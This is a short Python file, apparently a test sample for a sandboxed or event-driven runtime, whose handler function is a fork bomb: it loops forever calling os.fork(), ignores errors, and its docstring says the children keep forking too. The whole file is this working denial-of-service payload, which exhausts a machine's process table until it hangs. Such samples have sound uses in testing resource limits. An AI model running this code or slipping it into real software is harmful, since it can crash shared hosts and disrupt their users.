"""Forks for ever, and so do the children."""

import os


def handler(event):
    while True:
        try:
            os.fork()
        except OSError:
            pass
